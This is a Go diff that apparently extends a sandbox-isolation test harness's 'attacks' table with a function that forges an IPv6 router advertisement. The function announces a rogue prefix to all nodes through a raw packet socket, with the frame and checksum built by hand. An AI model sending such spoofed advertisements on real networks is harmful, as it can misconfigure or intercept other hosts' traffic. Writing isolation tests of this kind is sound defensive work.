@@ -45,6 +45,7 @@ var attacks = map[string]func(args []string){
 	"cgroup":        leaveCgroup,
 	"handle":        openByHandle,
 	"keys":          searchKeys,
+	"advertise":     advertise,
 	"nothing":       func([]string) {},
 }
 
@@ -528,4 +529,38 @@ func searchKeys(args []string) {
 		}
 	}
 	report(err, "find key %s in /proc/keys", args[0])
+}
+
+// advertise sends a router advertisement to everybody on the network, with the prefix 2001:db8:bad::/64 for addresses and a lifetime
+// of the router of 0. Who believes it is for the test to find out.
+func advertise([]string) {
+	eth, err := net.InterfaceByName("eth0")
+	if err != nil {
+		report(err, "find eth0")
+		return
+	}
+	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0)
+	if err != nil {
+		report(err, "open a packet socket")
+		return
+	}
+	defer unix.Close(fd)
+	source, all := net.ParseIP("fe80::bad"), net.ParseIP("ff02::1")
+	message := []byte{134, 0, 0, 0, 64, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0}
+	message = append(message, 3, 4, 64, 0xc0, 0, 0, 0x0e, 0x10, 0, 0, 0x0e, 0x10, 0, 0, 0, 0)
+	message = append(message, net.ParseIP("2001:db8:bad::")...)
+	pseudo := append(append(append([]byte{}, source...), all...), 0, 0, 0, byte(len(message)), 0, 0, 0, 58)
+	var sum uint32
+	for i, b := range append(pseudo, message...) {
+		sum += uint32(b) << (8 * (1 - i%2))
+	}
+	for sum > 0xffff {
+		sum = sum>>16 + sum&0xffff
+	}
+	message[2], message[3] = byte(^sum>>8), byte(^sum)
+	frame := append([]byte{0x33, 0x33, 0, 0, 0, 1}, eth.HardwareAddr...)
+	frame = append(frame, 0x86, 0xdd, 0x60, 0, 0, 0, 0, byte(len(message)), 58, 255)
+	frame = append(append(append(frame, source...), all...), message...)
+	err = unix.Sendto(fd, frame, 0, &unix.SockaddrLinklayer{Ifindex: eth.Index})
+	report(err, "send a router advertisement")
 }
